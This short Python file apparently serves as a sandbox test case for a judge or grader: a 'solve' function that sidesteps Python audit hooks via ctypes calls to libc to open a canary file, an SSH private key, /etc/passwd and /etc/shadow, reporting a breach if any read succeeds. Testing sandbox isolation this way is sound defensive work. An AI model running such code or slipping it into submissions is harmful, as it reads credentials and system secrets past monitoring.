# Goes around everything that Python could watch: opens a file by a system call of its own.
# expect: AC
# expect in none: WA

import ctypes
import sys


def solve(a, b):
    sys.addaudithook(lambda event, arguments: None)
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)
    for path in (b"@HOST@/canary", b"@HOME@/.ssh/id_ed25519", b"/etc/passwd", b"/etc/shadow"):
        fd = libc.open(path, 0)
        if fd >= 0:
            return "breach: read %r" % buffer.raw[:libc.read(fd, buffer, 64)]
    return a + b
